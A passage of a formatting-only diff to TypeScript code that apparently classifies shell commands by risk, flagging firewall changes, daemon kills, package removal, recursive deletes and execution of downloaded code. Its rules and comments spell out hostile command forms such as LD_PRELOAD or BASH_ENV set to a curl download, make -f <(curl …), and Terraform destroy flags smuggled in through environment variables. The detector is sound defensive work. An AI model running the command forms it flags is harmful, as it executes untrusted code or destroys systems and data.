-      const verb = obj === "connection" ? pick(v, ["show", "up", "down", "add", "modify", "clone", "edit", "delete", "monitor", "reload", "load", "import", "export", "migrate"]) : obj === "device" ? pick(v, ["status", "show", "set", "up", "connect", "reapply", "modify", "down", "disconnect", "delete", "monitor", "wifi", "lldp", "checkpoint"]) : undefined;
+      const verb =
+        obj === "connection"
+          ? pick(v, [
+              "show",
+              "up",
+              "down",
+              "add",
+              "modify",
+              "clone",
+              "edit",
+              "delete",
+              "monitor",
+              "reload",
+              "load",
+              "import",
+              "export",
+              "migrate",
+            ])
+          : obj === "device"
+            ? pick(v, [
+                "status",
+                "show",
+                "set",
+                "up",
+                "connect",
+                "reapply",
+                "modify",
+                "down",
+                "disconnect",
+                "delete",
+                "monitor",
+                "wifi",
+                "lldp",
+                "checkpoint",
+              ])
+            : undefined;
       if (verb && !/^(?:show|status|monitor|export|wifi|lldp)$/.test(verb)) return add(ctx, "network_change");
-      if ((obj === "radio" || obj === "networking") && words.some((w) => w === "on" || w === "off")) return add(ctx, "network_change");
-      if (obj === "general" && pick(v, ["status", "hostname", "permissions", "logging", "reload"]) === "hostname" && words.length >= 3) return add(ctx, "network_change");
+      if ((obj === "radio" || obj === "networking") && words.some((w) => w === "on" || w === "off"))
+        return add(ctx, "network_change");
+      if (
+        obj === "general" &&
+        pick(v, ["status", "hostname", "permissions", "logging", "reload"]) === "hostname" &&
+        words.length >= 3
+      )
+        return add(ctx, "network_change");
       return;
     }
     case "iptables":
@@ -1034,7 +1450,20 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
     case "iptables-nft":
     case "ebtables":
     case "arptables":
-      if (hasFlag(args, "ADIRPNXFZ", ["--append", "--delete", "--insert", "--replace", "--policy", "--new-chain", "--flush", "--delete-chain", "--zero"])) add(ctx, "firewall_change");
+      if (
+        hasFlag(args, "ADIRPNXFZ", [
+          "--append",
+          "--delete",
+          "--insert",
+          "--replace",
+          "--policy",
+          "--new-chain",
+          "--flush",
+          "--delete-chain",
+          "--zero",
+        ])
+      )
+        add(ctx, "firewall_change");
       return;
     case "iptables-restore":
     case "ip6tables-restore":
@@ -1044,8 +1473,12 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       return;
     case "ufw":
     case "firewall-cmd":
-      if (name === "ufw" && (words[0] === "status" || words[0] === "app" && words[1] === "list")) return;
-      if (name === "firewall-cmd" && args.every((a) => /^--(?:state|list|get|query|info)/.test(a.text) || !a.text.startsWith("-"))) return;
+      if (name === "ufw" && (words[0] === "status" || (words[0] === "app" && words[1] === "list"))) return;
+      if (
+        name === "firewall-cmd" &&
+        args.every((a) => /^--(?:state|list|get|query|info)/.test(a.text) || !a.text.startsWith("-"))
+      )
+        return;
       add(ctx, "firewall_change");
       return;
     case "useradd":
@@ -1078,11 +1511,13 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       if (hasFlag(args, "r", ["--remove"])) return add(ctx, "crontab_remove");
       if (hasFlag(args, "le")) return;
       const ops = operands(args, "u");
-      if (ops.length || ctx.producer || ctx.redirects.some((r) => r.op === "<" || r.body !== undefined)) add(ctx, "crontab_replace");
+      if (ops.length || ctx.producer || ctx.redirects.some((r) => r.op === "<" || r.body !== undefined))
+        add(ctx, "crontab_replace");
       return;
     }
     case "sysctl":
-      if (hasFlag(args, "wp", ["--write", "--load", "--system"]) || args.some((a) => /=/.test(a.text))) add(ctx, "kernel_change");
+      if (hasFlag(args, "wp", ["--write", "--load", "--system"]) || args.some((a) => /=/.test(a.text)))
+        add(ctx, "kernel_change");
       return;
     case "modprobe":
     case "rmmod":
@@ -1103,10 +1538,18 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       return;
     case "dpkg":
     case "rpm":
-      if (hasFlag(args.filter((a) => !a.text.startsWith("--")), name === "dpkg" ? "rP" : "e") || args.some((a) => /^--(?:remove|purge|erase)$/.test(a.text))) add(ctx, "package_remove");
+      if (
+        hasFlag(
+          args.filter((a) => !a.text.startsWith("--")),
+          name === "dpkg" ? "rP" : "e",
+        ) ||
+        args.some((a) => /^--(?:remove|purge|erase)$/.test(a.text))
+      )
+        add(ctx, "package_remove");
       return;
     case "pacman":
-      if (args.some((a) => /^-R[a-z]*$/i.test(a.text) && a.text[1] === "R") || args.some((a) => a.text === "--remove")) add(ctx, "package_remove");
+      if (args.some((a) => /^-R[a-z]*$/i.test(a.text) && a.text[1] === "R") || args.some((a) => a.text === "--remove"))
+        add(ctx, "package_remove");
       return;
     case "hostnamectl":
     case "timedatectl":
@@ -1118,7 +1561,8 @@ function judgeSystemState(ctx: JudgeContext, name: string): void {
       if (args.some((a) => /^(?:-[uR]*s[uR]*$|-s.|--set(?:=|$))/.test(a.text))) add(ctx, "kernel_change");
       return;
     case "hwclock":
-      if (args.some((a) => /^(?:--set|--systohc|--hctosys|--adjust|--systz|-[a-zA-Z]*[wsa])$/.test(a.text))) add(ctx, "kernel_change");
+      if (args.some((a) => /^(?:--set|--systohc|--hctosys|--adjust|--systz|-[a-zA-Z]*[wsa])$/.test(a.text)))
+        add(ctx, "kernel_change");
       return;
   }
 }
@@ -1136,10 +1580,15 @@ const SYSTEM_DAEMON =
   /^(?:\S*\/)?(?:systemd(?:-\w+)?|init|sshd|dockerd|containerd(?:-shim\S*)?|crio|kubelet|kube-(?:apiserver|proxy|scheduler|controller-manager)|etcd|postgres|postmaster|mysqld|mariadbd|mongod|cron|crond|atd|rsyslogd|syslog-ng|journald|dbus-daemon|NetworkManager|wpa_supplicant|dhclient|chronyd|ntpd|auditd|polkitd|udevd|snapd|agetty|getty|sssd)(?=$|[\s:])/;
 
 /** A system daemon's name as a word inside other text (an awk or grep pattern). */
-const DAEMON_WORD = new RegExp(String.raw`(?<![\w-])` + SYSTEM_DAEMON.source.replace(/^\^\(\?:\\S\*\\\/\)\?/, "").replace(/\(\?=\$\|\[\\s:\]\)$/, "") + String.raw`(?![\w-])`);
+const DAEMON_WORD = new RegExp(
+  String.raw`(?<![\w-])` +
+    SYSTEM_DAEMON.source.replace(/^\^\(\?:\\S\*\\\/\)\?/, "").replace(/\(\?=\$\|\[\\s:\]\)$/, "") +
+    String.raw`(?![\w-])`,
+);
 
 /** HUP, USR1, USR2, CONT, WINCH: the signals daemons take as "reload" or "reopen logs", not "stop". */
-const RELOAD_SIGNAL = /^-(?:s\s*)?(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH|1|10|12|18|28)$|^--signal[=\s](?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i;
+const RELOAD_SIGNAL =
+  /^-(?:s\s*)?(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH|1|10|12|18|28)$|^--signal[=\s](?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i;
 
 /** Signal 9 / KILL spelled as kill spells it. */
 const FORCE_SIGNAL = /^-(?:9|KILL|SIGKILL|s\s*(?:9|KILL|SIGKILL))$|^--signal=(?:9|KILL|SIGKILL)$/i;
@@ -1177,21 +1626,48 @@ function pipelineOrigin(p: Producer | null | undefined): { origin: Producer | nu
 function judgeKill(ctx: JudgeContext): void {
   const args = ctx.args;
   if (args.some((a) => /^-(?:0|s\s*0|-signal=0|l|L)$|^--(?:list|table)$/.test(a.text))) return;
-  const force = args.some((a) => FORCE_SIGNAL.test(a.text)) || args.some((a, k) => (a.text === "-s" || a.text === "-n" || a.text === "--signal") && /^(?:9|KILL|SIGKILL)$/i.test(args[k + 1]?.text ?? ""));
+  const force =
+    args.some((a) => FORCE_SIGNAL.test(a.text)) ||
+    args.some(
+      (a, k) =>
+        (a.text === "-s" || a.text === "-n" || a.text === "--signal") &&
+        /^(?:9|KILL|SIGKILL)$/i.test(args[k + 1]?.text ?? ""),
+    );
   const listers: { name: string; rest: string; narrowed: boolean }[] = [];
   if (ctx.viaXargs && ctx.producer) {
     const { origin, narrowed } = pipelineOrigin(ctx.producer);
     if (origin) listers.push({ name: origin.name, rest: origin.args.map((a) => a.text).join(" "), narrowed });
   }
   // (An unquoted `$p` bound to `$(pgrep -u x)` is split into words: the substitution is read across them.)
-  const joinedSubst = args.length > 1 && args.some((a) => /^\$\(/.test(a.text) && !/\)$/.test(a.text)) ? [{ text: args.map((a) => a.text).join(" ").replace(/^.*?(?=\$\()/, "") }] : [];
+  const joinedSubst =
+    args.length > 1 && args.some((a) => /^\$\(/.test(a.text) && !/\)$/.test(a.text))
+      ? [
+          {
+            text: args
+              .map((a) => a.text)
+              .join(" ")
+              .replace(/^.*?(?=\$\()/, ""),
+          },
+        ]
+      : [];
   for (const a of [...args, ...joinedSubst]) {
     const m = /^\$\(\s*(?:sudo\s+)?(\S+)([^|)]*)(\|[^)]*)?\)$/.exec(a.text.trim());
-    if (m) listers.push({ name: m[1]!.split("/").pop()!, rest: m[2]!.trim(), narrowed: m[3] !== undefined && /\b(?:grep|egrep|rg|awk\s+'?\/|pgrep|pidof)\b/.test(m[3]) });
+    if (m)
+      listers.push({
+        name: m[1]!.split("/").pop()!,
+        rest: m[2]!.trim(),
+        narrowed: m[3] !== undefined && /\b(?:grep|egrep|rg|awk\s+'?\/|pgrep|pidof)\b/.test(m[3]),
+      });
   }
   // A pid read from a pid file of the system's run directory (`kill -9 $(cat /run/nginx.pid)`) is a system daemon's:
   // stopping it stops the service. A pid file in the working directory is the task's own server.
-  const reload = args.some((a) => RELOAD_SIGNAL.test(a.text)) || args.some((a, k) => (a.text === "-s" || a.text === "--signal") && /^(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i.test(args[k + 1]?.text ?? ""));
+  const reload =
+    args.some((a) => RELOAD_SIGNAL.test(a.text)) ||
+    args.some(
+      (a, k) =>
+        (a.text === "-s" || a.text === "--signal") &&
+        /^(?:SIG)?(?:HUP|USR1|USR2|CONT|WINCH)$/i.test(args[k + 1]?.text ?? ""),
+    );
   for (const a of args) {
     const m = /^\$\(\s*(?:(?:sudo\s+)?(?:cat|head\s+-\S+|tail\s+-\S+)\s+|<\s*)(\S+)\s*\)$/.exec(a.text.trim());
     if (m && !reload && /^\/(?:var\/)?run\//.test(m[1]!.replace(/^['"]|['"]$/g, ""))) return add(ctx, "stop_service");
@@ -1200,19 +1676,28 @@ function judgeKill(ctx: JudgeContext): void {
   // `kill $(ps aux | grep '[p]ostgres' | awk …)`): the daemon is stopped.
   if (!reload) {
     const filters: string[] = [];
-    for (let p = ctx.viaXargs ? ctx.producer : null, guard = 0; p && guard < 8; p = p.before, guard++) filters.push(...p.args.map((a) => a.text));
+    for (let p = ctx.viaXargs ? ctx.producer : null, guard = 0; p && guard < 8; p = p.before, guard++)
+      filters.push(...p.args.map((a) => a.text));
     for (const a of args) if (/^\$\(.*\|/s.test(a.text)) filters.push(a.text);
     if (filters.some((f) => DAEMON_WORD.test(f.replace(/\[(\w)\]/g, "$1")))) return add(ctx, "stop_service");
   }
   // SIGSTOP freezes what it hits as surely as SIGKILL ends it (`pgrep -u mysql | xargs kill -STOP`).
-  const freeze = force || args.some((a) => /^-(?:s\s*)?(?:SIG)?(?:STOP|19)$|^--signal=(?:SIG)?STOP$/i.test(a.text)) || args.some((a, k) => /^(?:-s|--signal)$/.test(a.text) && /^(?:SIG)?STOP$/i.test(args[k + 1]?.text ?? ""));
+  const freeze =
+    force ||
+    args.some((a) => /^-(?:s\s*)?(?:SIG)?(?:STOP|19)$|^--signal=(?:SIG)?STOP$/i.test(a.text)) ||
+    args.some((a, k) => /^(?:-s|--signal)$/.test(a.text) && /^(?:SIG)?STOP$/i.test(args[k + 1]?.text ?? ""));
   for (const l of listers) {
-    if (l.name === "ps" && !l.narrowed && !/(?:^|\s)-(?:[a-zA-Z]*[pCuUgGt]|-pid|-ppid|-user|-group)\b/.test(l.rest)) return add(ctx, "kill_all_processes");
+    if (l.name === "ps" && !l.narrowed && !/(?:^|\s)-(?:[a-zA-Z]*[pCuUgGt]|-pid|-ppid|-user|-group)\b/.test(l.rest))
+      return add(ctx, "kill_all_processes");
     // A listing filtered by a name (`ps -eo pid,comm | awk '/java/ {print $1}' | xargs kill -9`) is `pkill -9 java`.
     if (l.name === "ps" && l.narrowed && freeze) return add(ctx, "pkill_force");
     if (l.name === "pgrep" || l.name === "pidof") {
-      const names = l.rest.split(/\s+/).filter((w) => w && !w.startsWith("-")).map((w) => w.replace(/^['"]|['"]$/g, ""));
-      if (names.some((n) => SYSTEM_DAEMON.test(n)) && !args.some((a) => RELOAD_SIGNAL.test(a.text))) return add(ctx, "stop_service");
+      const names = l.rest
+        .split(/\s+/)
+        .filter((w) => w && !w.startsWith("-"))
+        .map((w) => w.replace(/^['"]|['"]$/g, ""));
+      if (names.some((n) => SYSTEM_DAEMON.test(n)) && !args.some((a) => RELOAD_SIGNAL.test(a.text)))
+        return add(ctx, "stop_service");
       if (freeze) return add(ctx, "pkill_force");
     }
   }
@@ -1226,7 +1711,13 @@ export function judgeCommand(ctx: JudgeContext): void {
   // Redirections: writes and truncations of their targets.
   for (const r of ctx.redirects) {
     if (r.body !== undefined) continue;
-    const writes = r.op === ">" || r.op === ">>" || r.op === "&>" || r.op === "&>>" || r.op === "<>" || (r.op === ">&" && !/^(?:\d+|-)$/.test(r.target));
+    const writes =
+      r.op === ">" ||
+      r.op === ">>" ||
+      r.op === "&>" ||
+      r.op === "&>>" ||
+      r.op === "<>" ||
+      (r.op === ">&" && !/^(?:\d+|-)$/.test(r.target));
     if (!writes) continue;
     const win = windowsWriteClass(r.target);
     if (win) {
@@ -1241,20 +1732,50 @@ export function judgeCommand(ctx: JudgeContext): void {
   notefetched(ctx);
   // A library or module path the loader or interpreter loads code from, set to a downloaded file
   // (`curl … -o /tmp/l.so && LD_PRELOAD=/tmp/l.so ls`, `export LD_PRELOAD=…`): running downloaded code.
-  const loaded = [...(ctx.env ?? []), ...(name === "export" || name === "declare" || name === "typeset" ? args.flatMap((a) => /^([A-Za-z_]\w*)=(.*)$/s.exec(a.text)?.slice(1, 3) ?? []).reduce<{ name: string; value: string }[]>((acc, v, k, xs) => (k % 2 === 0 ? [...acc, { name: v, value: xs[k + 1]! }] : acc), []) : [])];
+  const loaded = [
+    ...(ctx.env ?? []),
+    ...(name === "export" || name === "declare" || name === "typeset"
+      ? args
+          .flatMap((a) => /^([A-Za-z_]\w*)=(.*)$/s.exec(a.text)?.slice(1, 3) ?? [])
+          .reduce<{ name: string; value: string }[]>(
+            (acc, v, k, xs) => (k % 2 === 0 ? [...acc, { name: v, value: xs[k + 1]! }] : acc),
+            [],
+          )
+      : []),
+  ];
   for (const e of loaded) {
-    if (!/^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PYTHONPATH|PYTHONSTARTUP|PERL5LIB|PERL5OPT|RUBYLIB|RUBYOPT|NODE_OPTIONS|NODE_PATH|BASH_ENV|ENV)$/.test(e.name)) continue;
-    if (e.value.split(/[:\s]+/).some((part) => part !== "" && isFetched(ctx, part.replace(/^--require=|^-r/, "")))) add(ctx, "remote_code_exec");
+    if (
+      !/^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH|PYTHONPATH|PYTHONSTARTUP|PERL5LIB|PERL5OPT|RUBYLIB|RUBYOPT|NODE_OPTIONS|NODE_PATH|BASH_ENV|ENV)$/.test(
+        e.name,
+      )
+    )
+      continue;
+    if (e.value.split(/[:\s]+/).some((part) => part !== "" && isFetched(ctx, part.replace(/^--require=|^-r/, ""))))
+      add(ctx, "remote_code_exec");
     // `BASH_ENV=<(curl …) bash -c true`: the start-up file the shell sources is a download.
-    else if (/^(?:BASH_ENV|ENV|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|RUBYOPT)$/.test(e.name) && FETCHED_TEXT.test(e.value)) add(ctx, "remote_code_exec");
+    else if (
+      /^(?:BASH_ENV|ENV|PYTHONSTARTUP|NODE_OPTIONS|PERL5OPT|RUBYOPT)$/.test(e.name) &&
+      FETCHED_TEXT.test(e.value)
+    )
+      add(ctx, "remote_code_exec");
   }
   // Options a tool reads from the environment are its options (`TF_CLI_ARGS_apply='-auto-approve -destroy' terraform apply`).
   if (/^(?:terraform|tofu)$/.test(name) && !ctx.tfArgs) {
     const verb = args.find((a) => !a.text.startsWith("-"))?.text;
-    const extra = (ctx.env ?? []).filter((e) => e.name === "TF_CLI_ARGS" || (verb !== undefined && e.name === `TF_CLI_ARGS_${verb}`)).flatMap((e) => e.value.split(/\s+/).filter(Boolean));
+    const extra = (ctx.env ?? [])
+      .filter((e) => e.name === "TF_CLI_ARGS" || (verb !== undefined && e.name === `TF_CLI_ARGS_${verb}`))
+      .flatMap((e) => e.value.split(/\s+/).filter(Boolean));
     if (extra.length) {
       const k = args.findIndex((a) => a.text === verb);
-      return judgeCommand({ ...ctx, tfArgs: true, args: [...args.slice(0, k + 1), ...extra.map((x) => ({ text: x, literal: true }) as JudgedArg), ...args.slice(k + 1)] });
+      return judgeCommand({
+        ...ctx,
+        tfArgs: true,
+        args: [
+          ...args.slice(0, k + 1),
+          ...extra.map((x) => ({ text: x, literal: true }) as JudgedArg),
+          ...args.slice(k + 1),
+        ],
+      });
     }
   }
   const hereString = ctx.redirects.find((r) => r.op === "<<<" && r.body !== undefined);
@@ -1288,9 +1809,23 @@ export function judgeCommand(ctx: JudgeContext): void {
   for (const key of exhaustionEffects(name, args, ctx.redirects, ctx.producer)) add(ctx, key);
   // Operations no rule of their own judged (unreviewed applies, drains, bulk deletes through xargs, remote restores, init
   // scripts, other systems' package managers, system installs, …): ops.ts.
-  for (const key of opsEffects({ name, args, producer: ctx.producer, viaXargs: ctx.viaXargs, privileged: ctx.privileged, remote: ctx.remote, env: ctx.env, created: ctx.created, inside: (p) => isInsideLike(whereIn(ctx, p)) })) add(ctx, key);
+  for (const key of opsEffects({
+    name,
+    args,
+    producer: ctx.producer,
+    viaXargs: ctx.viaXargs,
+    privileged: ctx.privileged,
+    remote: ctx.remote,
+    env: ctx.env,
+    created: ctx.created,
+    inside: (p) => isInsideLike(whereIn(ctx, p)),
+  }))
+    add(ctx, key);
   // Windows and macOS system commands (cmd built-ins, Windows tools, PowerShell cmdlets, launchd, diskutil, …): windows.ts.
-  const win = windowsEffects(name, args.map((a) => a.text));
+  const win = windowsEffects(
+    name,
+    args.map((a) => a.text),
+  );
   for (const e of win) {
     if ("key" in e) add(ctx, e.key);
     else {
@@ -1309,7 +1844,8 @@ export function judgeCommand(ctx: JudgeContext): void {
   if (DELETERS.has(name)) {
     if (name === "gio" && sub(args)[0] !== "remove" && sub(args)[0] !== "trash") return;
     const recursive = name === "rm" ? hasFlag(args, "rR", ["--recursive"]) : false;
-    for (const op of operands(args).filter((o) => o.text !== "remove" && o.text !== "trash")) judgeDelete(ctx, op.text, recursive);
+    for (const op of operands(args).filter((o) => o.text !== "remove" && o.text !== "trash"))
+      judgeDelete(ctx, op.text, recursive);
     return;
   }
 
@@ -1319,15 +1855,34 @@ export function judgeCommand(ctx: JudgeContext): void {
   judgeElsewhere(ctx, name);
   judgeMoreEffects(ctx, name, findingsBefore);
   // make, just, task, ninja, cmake -P … given a file of recipes that a download writes (`make -f <(curl …)`): downloaded commands run.
-  if (/^(?:make|gmake|bmake|remake|just|ninja|cmake|task|mage|rake|scons|meson|xmake)$/.test(name) && args.some((a, k) => (/^(?:-f|--file|--makefile|--justfile|-P|--taskfile|-t)$/.test(args[k - 1]?.text ?? "") || /^--(?:file|makefile|justfile)=/.test(a.text)) && (FETCHED_TEXT.test(a.text) || isFetched(ctx, a.text.replace(/^--\w+=/, ""))))) add(ctx, "shell_input");
+  if (
+    /^(?:make|gmake|bmake|remake|just|ninja|cmake|task|mage|rake|scons|meson|xmake)$/.test(name) &&
+    args.some(
+      (a, k) =>
+        (/^(?:-f|--file|--makefile|--justfile|-P|--taskfile|-t)$/.test(args[k - 1]?.text ?? "") ||
+          /^--(?:file|makefile|justfile)=/.test(a.text)) &&
+        (FETCHED_TEXT.test(a.text) || isFetched(ctx, a.text.replace(/^--\w+=/, ""))),
+    )
+  )
+    add(ctx, "shell_input");
 
   switch (name) {
     // mkdir of a scratch directory: the directory is the command line's own from then on (see madeHere).
     case "mkdir":
       for (const op of operands(args, "m", ["--mode", "--context"])) {
         // A name made unique by the shell's own process id (`/tmp/scratch-$$`, `${BASHPID}`) is the same word each time the line uses it.
-        const own = !op.literal && /^\/(?:tmp|var\/tmp)\/[^*?[$]*(?:\$(?:\$|\{\$\}|BASHPID\b|\{BASHPID\}|PPID\b|\{PPID\}|UID\b|USER\b)[^*?[$]*)+$/.test(op.text);
-        if (ctx.created.size < 64 && (op.literal || own) && whereIn(ctx, op.text) === "scratch" && /^\/(?:tmp|var\/tmp)\/[^*?[]+$/.test(op.text)) ctx.created.add(`dir:${posix.normalize(op.text).replace(/\/+$/, "")}`);
+        const own =
+          !op.literal &&
+          /^\/(?:tmp|var\/tmp)\/[^*?[$]*(?:\$(?:\$|\{\$\}|BASHPID\b|\{BASHPID\}|PPID\b|\{PPID\}|UID\b|USER\b)[^*?[$]*)+$/.test(
+            op.text,
+          );
+        if (
+          ctx.created.size < 64 &&
+          (op.literal || own) &&
+          whereIn(ctx, op.text) === "scratch" &&
+          /^\/(?:tmp|var\/tmp)\/[^*?[]+$/.test(op.text)
+        )
+          ctx.created.add(`dir:${posix.normalize(op.text).replace(/\/+$/, "")}`);
       }
       return;
     case "mv":
@@ -1343,28 +1898,61 @@ export function judgeCommand(ctx: JudgeContext): void {
     case "install":
     case "rsync":
     case "ln": {
-      const ops = operands(args, name === "install" ? "gmotS" : name === "rsync" ? "ef" : "tS", ["--target-directory", "--suffix", "--mode", "--owner", "--group", "--rsh", "--exclude", "--include", "--filter"]).map((o) => o.text);
+      const ops = operands(args, name === "install" ? "gmotS" : name === "rsync" ? "ef" : "tS", [
+        "--target-directory",
+        "--suffix",
+        "--mode",
+        "--owner",
+        "--group",
+        "--rsh",
+        "--exclude",
+        "--include",
+        "--filter",
+      ]).map((o) => o.text);
       if (name === "install" && hasFlag(args, "d", ["--directory"])) return;
       // rsync -n / --dry-run only lists what it would transfer and delete.
-      if (name === "rsync" && (hasFlag(args.filter((a) => !a.text.startsWith("--")), "n") || args.some((a) => a.text === "--dry-run"))) return;
+      if (
+        name === "rsync" &&
+        (hasFlag(
+          args.filter((a) => !a.text.startsWith("--")),
+          "n",
+        ) ||
+          args.some((a) => a.text === "--dry-run"))
+      )
+        return;
       const t = args.findIndex((a) => a.text === "-t" || a.text === "--target-directory");
       const dest = t >= 0 ? args[t + 1]?.text : ops.length > 1 ? ops[ops.length - 1] : undefined;
       const src = ops.slice(0, -1);
       // rsync --remove-source-files deletes what it copied.
-      if (name === "rsync" && args.some((a) => /^--remove-source/.test(a.text))) for (const s of src) if (!/^[^/]*:/.test(s)) judgeDelete(ctx, s, true);
+      if (name === "rsync" && args.some((a) => /^--remove-source/.test(a.text)))
+        for (const s of src) if (!/^[^/]*:/.test(s)) judgeDelete(ctx, s, true);
       // --delete onto a remote host:path removes what the source lacks there: files of another machine.
-      if (name === "rsync" && dest !== undefined && /^[^/]*:/.test(dest) && args.some((a) => /^--del(?:ete\S*)?$/.test(a.text))) return add(ctx, "recursive_delete");
+      if (
+        name === "rsync" &&
+        dest !== undefined &&
+        /^[^/]*:/.test(dest) &&
+        args.some((a) => /^--del(?:ete\S*)?$/.test(a.text))
+      )
+        return add(ctx, "recursive_delete");
       if (dest === undefined || /^[^/]*:/.test(dest) || SCRATCH_DIR.test(dest)) return; // remote rsync destination, scratch
       if (name === "ln") {
         const w = whereIn(ctx, dest);
-        if (w === "system" || w === "credential" || (hasFlag(args, "f", ["--force"]) && !isInsideLike(w))) judgeOverwrite(ctx, dest);
+        if (w === "system" || w === "credential" || (hasFlag(args, "f", ["--force"]) && !isInsideLike(w)))
+          judgeOverwrite(ctx, dest);
         rememberLink(ctx, args, src, dest); // after: the link replaces what was at dest
         return;
       }
-      if (src.some((s) => /^\/dev\/(?:null|zero|u?random)$/.test(s)) && DATA_FILE.test(dest)) return add(ctx, "overwrite_data_file");
-      if (name === "rsync" && args.some((a) => /^--(?:delete|remove-source)/.test(a.text)) && !isInsideLike(whereIn(ctx, dest))) return add(ctx, "recursive_delete");
+      if (src.some((s) => /^\/dev\/(?:null|zero|u?random)$/.test(s)) && DATA_FILE.test(dest))
+        return add(ctx, "overwrite_data_file");
+      if (
+        name === "rsync" &&
+        args.some((a) => /^--(?:delete|remove-source)/.test(a.text)) &&
+        !isInsideLike(whereIn(ctx, dest))
+      )
+        return add(ctx, "recursive_delete");
       judgeOverwrite(ctx, dest);
-      if (src.some((s) => /^\/dev\/(?:null|zero)$/.test(s)) && whereIn(ctx, dest) !== "inside") add(ctx, "overwrite_outside_workdir");
+      if (src.some((s) => /^\/dev\/(?:null|zero)$/.test(s)) && whereIn(ctx, dest) !== "inside")
+        add(ctx, "overwrite_outside_workdir");
       return;
     }
     case "truncate": {
@@ -1373,7 +1961,11 @@ export function judgeCommand(ctx: JudgeContext): void {
         noteInside(ctx, op.text);
         if (DATA_FILE.test(op.text)) add(ctx, "overwrite_data_file");
         else if (w === "system" && CRON_PATH.test(op.text)) add(ctx, "crontab_replace");
-        else if (w === "system") add(ctx, /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(op.text) ? "system_config_write" : "overwrite_outside_workdir");
+        else if (w === "system")
+          add(
+            ctx,
+            /^\/(?:etc|boot|usr|bin|sbin|lib)/.test(op.text) ? "system_config_write" : "overwrite_outside_workdir",
+          );
         else if (w === "credential") add(ctx, "credential_write");
         else if (w === "outside" || w === "home" || w === "unknown") add(ctx, "overwrite_outside_workdir");
       }
@@ -1385,17 +1977,38 @@ export function judgeCommand(ctx: JudgeContext): void {
       return;
     // patch rewrites the file it is given (or, with -d DIR, files under DIR; -o names the output instead).
     case "patch": {
-      const ops = operands(args, "pidoDBFrzVYgM", ["--strip", "--input", "--directory", "--output", "--ifdef", "--prefix", "--fuzz", "--reject-file", "--suffix", "--version-control", "--basename-prefix", "--get", "--merge"]);
+      const ops = operands(args, "pidoDBFrzVYgM", [
+        "--strip",
+        "--input",
+        "--directory",
+        "--output",
+        "--ifdef",
+        "--prefix",
+        "--fuzz",
+        "--reject-file",
+        "--suffix",
+        "--version-control",
+        "--basename-prefix",
+        "--get",
+        "--merge",
+      ]);
       const at = (short: string, long: string) => {
         const k = args.findIndex((a) => a.text === short || a.text === long);
         if (k >= 0) return args[k + 1]?.text;
-        return args.find((a) => a.text.startsWith(long + "=") || (a.text.startsWith(short) && a.text.length > 2 && !a.text.startsWith("--")))?.text.replace(new RegExp(`^(?:${long}=|${short})`), "");
+        return args
+          .find(
+            (a) =>
+              a.text.startsWith(long + "=") ||
+              (a.text.startsWith(short) && a.text.length > 2 && !a.text.startsWith("--")),
+          )
+          ?.text.replace(new RegExp(`^(?:${long}=|${short})`), "");
       };
       const out = at("-o", "--output");
       const dir = at("-d", "--directory");
       if (args.some((a) => a.text === "--dry-run")) return;
       if (out !== undefined) return judgeOverwrite(ctx, out);
-      if (ops[0]) return judgeOverwrite(ctx, dir && !ops[0].text.startsWith("/") ? posix.join(dir, ops[0].text) : ops[0].text);
+      if (ops[0])
+        return judgeOverwrite(ctx, dir && !ops[0].text.startsWith("/") ? posix.join(dir, ops[0].text) : ops[0].text);
       if (dir !== undefined && !isInsideLike(whereIn(ctx, dir))) judgeOverwrite(ctx, posix.join(dir, "_item_"));
       return;
     }
@@ -1432,7 +2045,12 @@ export function judgeCommand(ctx: JudgeContext): void {
     case "unxz":
     case "bunzip2": {
       const texts = args.map((a) => a.text);
-      const keeps = texts.some((x) => /^-[a-zA-Z0-9]*[ckltS]|^--(?:stdout|to-stdout|keep|list|test|help|version)$/.test(x) && !/^-S$/.test(x)) || ((name === "zstd" || name === "lz4") && !texts.includes("--rm"));
+      const keeps =
+        texts.some(
+          (x) =>
+            /^-[a-zA-Z0-9]*[ckltS]|^--(?:stdout|to-stdout|keep|list|test|help|version)$/.test(x) && !/^-S$/.test(x),
+        ) ||
+        ((name === "zstd" || name === "lz4") && !texts.includes("--rm"));
       if (keeps || (ctx.producer && !ctx.viaXargs)) return;
       const recursive = texts.some((x) => /^-[a-zA-Z0-9]*r|^--recursive$/.test(x));
       for (const op of operands(args, "S", ["--suffix"])) judgeDelete(ctx, op.text, recursive);
@@ -1443,7 +2061,10 @@ export function judgeCommand(ctx: JudgeContext): void {
     case "ruby":
       if (args.some((a) => /^-[a-zA-Z]*i/.test(a.text) || a.text.startsWith("--in-place"))) {
         const ops = operands(args, name === "sed" ? "ef" : "eEIMm", ["--expression", "--file"]);
-        const files = name === "sed" && !args.some((a) => a.text === "-e" || a.text.startsWith("--expression")) ? ops.slice(1) : ops;
+        const files =
+          name === "sed" && !args.some((a) => a.text === "-e" || a.text.startsWith("--expression"))
+            ? ops.slice(1)
+            : ops;
         for (const f of files) {
           const w = whereIn(ctx, f.text);
           if (w !== "inside" && w !== "scratch") judgeOverwrite(ctx, f.text);
@@ -1476,7 +2097,14 @@ export function judgeCommand(ctx: JudgeContext): void {
       // A path with a variable in it (`. "$HOME/.cargo/env"`) is a script file like any other; text computed by a command is not.
       const written = writtenScript(ctx, target.text);
       if (written !== undefined) return written === null ? add(ctx, "shell_input") : ctx.analyseShell(written);
-      if (/\$\(|`/.test(target.text) || (!target.literal && /^\$\{?\w+\}?$/.test(target.text)) || target.text === "/dev/stdin" || target.text === "-" || isFetched(ctx, target.text)) add(ctx, "shell_input");
+      if (
+        /\$\(|`/.test(target.text) ||
+        (!target.literal && /^\$\{?\w+\}?$/.test(target.text)) ||
+        target.text === "/dev/stdin" ||
+        target.text === "-" ||
+        isFetched(ctx, target.text)
+      )
